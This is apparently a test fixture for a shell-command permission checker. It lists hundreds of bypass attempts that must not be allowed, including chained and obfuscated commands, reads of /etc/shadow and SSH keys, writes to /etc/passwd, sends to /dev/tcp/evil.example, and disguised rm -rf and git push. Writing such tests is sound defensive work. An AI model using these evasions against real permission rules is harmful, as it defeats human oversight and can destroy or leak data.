/** Commands that try to run, write or send something which no rule allows. Rules that are far too generous allow the programs that they begin with. */

import { lines, optioned, wrapped } from './hostile-programs.ts'

/** The rules: many programs with any words, in a workspace. */
export const generous = {
  allow: [
    ...[
      'git *',
      'ls *',
      'cat *',
      'echo *',
      'find *',
      'grep *',
      'rg *',
      'sed *',
      'sort *',
      'tar *',
      'awk *',
      'head *',
      'man *',
      'fd *',
      'tree *',
      'date *',
    ],
    ...[
      'npm test',
      'timeout *',
      'env *',
      'nice *',
      'nohup *',
      'time *',
      'command *',
      'exec *',
      'setsid *',
      'stdbuf *',
      'printf *',
      'test *',
      'true',
      'cd *',
    ],
    ...[
      'eval *',
      'source *',
      'export *',
      'alias *',
      'trap *',
      'set *',
      'bash *',
      'sh *',
      'node *',
      'python3 *',
      'less *',
      'curl *',
      'wget *',
      'go *',
      'zip *',
      'x *',
    ],
  ],
  deny: ['rm *', 'git push *', 'dd *'],
  path: ({ path }: { readonly path: string }): 'allow' | 'ask' => (/^(?:\/dev\/.*|(?!.*\.\.)[a-z][\w./-]*)$/.test(path) ? 'allow' : 'ask'),
}

/** More than one command in one line. */
const joined = [
  ...lines(`
git log && evil
git log || evil
git log ; evil
git log;evil
git log | evil
git log |evil
git log & evil
git log &evil
git log |& evil
evil && git log
evil; git log
git log && ls && evil
git log | cat | evil
git log && cat a || evil
git log ;; evil
(evil)
( git log; evil )
{ evil; }
{ git log; evil; }
! evil
ls ; ( evil )
f() { evil; }; f
function f { evil; }; f
if true; then evil; fi
while true; do evil; done
until evil; do true; done
for x in 1; do evil; done
case x in x) evil;; esac
select x in a; do evil; done
[[ -n x ]] && evil
[ -n x ] && evil
coproc evil
ls&evil
ls&&evil
ls||evil
ls|evil
&& evil
| evil
ls &&
ls ||
ls |
;ls
`),
  'git log\nevil',
  'git log\n\nevil',
  'git log\n\n\n\n\n\n\n\n\n\n\n\nevil',
  `git log${' '.repeat(500)}; evil`,
  `git log${'\t'.repeat(500)}\nevil`,
  'git log\revil',
  'git log\r\nevil',
  'git log;\revil',
  'git log\u0085evil',
  'git log\u2028evil',
  'git log \\\n; evil',
  'git log &&\nevil',
  'git log |\n\nevil',
  'git log &&\n\\\nevil',
]

/** Substitutions and expansions. */
const expanded = [
  ...lines(String.raw`
ls $(evil)
ls "$(evil)"
ls "a$(evil)b"
ls ${'`'}evil${'`'}
ls "${'`'}evil${'`'}"
ls <(evil)
ls >(evil)
cat < <(evil)
ls $((a[$(evil)]))
ls $[a[$(evil)]]
ls ${'$'}{x@P}
ls ${'$'}{!x}
ls ${'$'}{x:-$(evil)}
ls ${'$'}{x:=evil}
ls ${'$'}{x//a/$(evil)}
ls "${'$'}{x:?$(evil)}"
ls $x
ls "$x"
ls $'evil'
ls $"$(evil)"
ls $IFS
$evil
$x$y
"$evil"
ls$IFS-la
echo $_
echo $0
echo $$
echo "$@"
find . -{delete,print}
find . -delet?
find . -dele*
find . -de\lete
find . -[d]elete
{evil,x}
ls {a,b}
ls {1..9}
ls ~
ls ~root
ls ~/x
ls a=~
ls --x=~/y
ls a:~
ls *
ls ?
ls [ab]
ls @(a|b)
ls !(a)
ls +(a)
/???/e?il
e\vil
\evil
'ls'\;evil
ls \; evil
ls "a\
b"
ls a\
b
!!
!evil
ls !$
ls "!evil"
ls "a!b"
^ls^evil
ls # evil
# evil
ls #
`),
  'ls\u00a0evil',
  'ls\u3000&& evil',
  'ls\u2003evil',
  'ls \u200bevil',
  'ls\u0000; evil',
  'ls \u0007',
  "ls '\u001b[2K\u001b[1Aevil'",
  "ls '\u202egpj.evil'",
  'ls "\u200b"',
  "ls 'a\rb'",
  "ls '\u0000'",
  "ls '\ud800'",
  'ls \u00e4',
  'l\uff53 a',
  'ls\u000b evil',
  'ls\u000c evil',
  "ls 'a",
  'ls "a',
  "ls 'a' 'b",
  'ls "a\\"',
]

/** Files that are read and written. */
const redirected = [
  ...lines(`
echo x > ~/.bashrc
echo x > ../.bashrc
echo x > /etc/passwd
echo x >> /etc/passwd
echo x >| /etc/passwd
echo x 2> /etc/passwd
echo x 1> /etc/passwd
echo x 1>/etc/passwd
echo x>/etc/passwd
echo x 9> /etc/passwd
echo x > '/etc/passwd'
echo x > "/etc/passwd"
echo x > /etc/'passwd'
>/etc/passwd echo x
echo >/etc/passwd x
> a
>> a
< a
> a ; ls
ls ; > a
>&2
echo x &> /etc/passwd
echo x &> a
echo x &>> a
echo x >& a
echo x >&a
echo x 2>&a
echo x <> a
echo x > $HOME/x
echo x > "$HOME/x"
echo x > a*
echo x > {a,b}
echo x > $(evil)
cat << EOF
cat <<< x
cat <<- EOF
cat < /etc/shadow
cat < ../secret
cat < ~/.ssh/id_rsa
cat 0< /etc/shadow
cat 3< /etc/shadow
echo x > /dev/tcp/evil.example/80
echo x > /dev/udp/evil.example/53
cat < /dev/tcp/evil.example/80
echo x > /dev/sda
echo x > /dev/fd/1
cat < /dev/stdin
echo x 12> a
echo x {fd}> a
echo x >
echo x > > a
echo x > ''
echo x 2>&1-
echo x > a > /etc/passwd
cd .. && echo x > a
cd /etc && echo x > passwd
cd /etc; cat < passwd
cd - && echo x > a
pushd /etc && echo x > passwd
timeout 5 echo x > /etc/passwd
bash -c 'echo x > /etc/passwd'
env bash -c 'cat < /etc/shadow'
bash -c 'cd /etc; echo x > passwd'
bash -c 'cd /etc'; echo x > a
`),
]

/** Words that change what other words mean. */
const assigned = lines(`
PATH=/tmp ls
LD_PRELOAD=./x.so ls
GIT_SSH_COMMAND=evil git fetch
A=1
A=1 B=2 ls
A+=1 ls
a[0]=1 ls
PAGER=evil git log
GIT_PAGER='evil' git log
IFS=x ls
BASH_ENV=x bash -c ls
env A=1 ls
env PATH=/tmp ls
env -i PATH=/tmp ls
env -S 'evil x'
env -u PATH ls
env - ls
env -C /etc ls
env --split-string=evil
env env A=1 ls
nice A=1 ls
time A=1 ls
export PATH=/tmp
export PATH=/tmp && ls
declare -x PATH=/tmp
alias ls=evil
alias ls='evil'
unalias ls
hash -p /tmp/evil ls
enable -f ./x.so ls
set -o x
shopt -s expand_aliases
read PATH
printf -v PATH /tmp
printf -v 'a[$(evil)]' x
test -v 'a[$(evil)]'
let x
getopts a x
mapfile -C evil a
trap evil EXIT
trap 'evil' 0
eval evil
eval 'evil'
eval ls
source x
. x
. ./x
builtin eval evil
command eval evil
command . x
exec
exec > a
exec -a ls evil
unset PATH
ulimit -c 0
umask 0
`)

/** Lines at which a rule does not stop that allows the program; each must not be allowed. */
export const hostile: readonly string[] = [
  ...joined,
  ...expanded,
  ...redirected,
  ...assigned,
  ...wrapped,
  ...optioned,
  `${'true; '.repeat(50)}evil`,
  `${'true && '.repeat(60)}evil`,
  `${'true\n'.repeat(51)}`,
  `ls ${'a'.repeat(10_000)}`,
]

/** Lines that a rule denies, whatever else is in them. */
export const denied: readonly string[] = lines(String.raw`
rm -rf x
/bin/rm -rf x
./rm x
RM -rf x
ls && rm x
ls | rm x
ls; rm
$(rm -rf x)
ls $(rm x)
echo "$(rm x)"
r\m x
'r'm x
"rm" x
env rm x
env A=1 rm x
timeout 5 rm x
nice -n 5 rm x
sudo rm x
sudo -s rm x
xargs rm
ls | xargs -I x rm x
sh -c 'rm x'
bash -lc 'rm x'
bash -c "bash -c 'rm x'"
eval rm x
eval 'rm x'
find . -exec rm '{}' ';'
if true; then rm x; fi
A=1 rm x
ls > a; rm x
(rm x)
{ rm x; }
ls & rm x
git push
git push --force
git -C x push
git --no-pager push origin
git -c a=b push
/usr/bin/git push
GIT_DIR=x git push
git log && git push
ls | xargs git
dd if=/dev/zero of=x
`).concat([`${'true; '.repeat(51)}rm x`, `ls ${'a '.repeat(6_000)}; rm x`, 'ls\nrm x', 'ls\u00a0; rm x'])
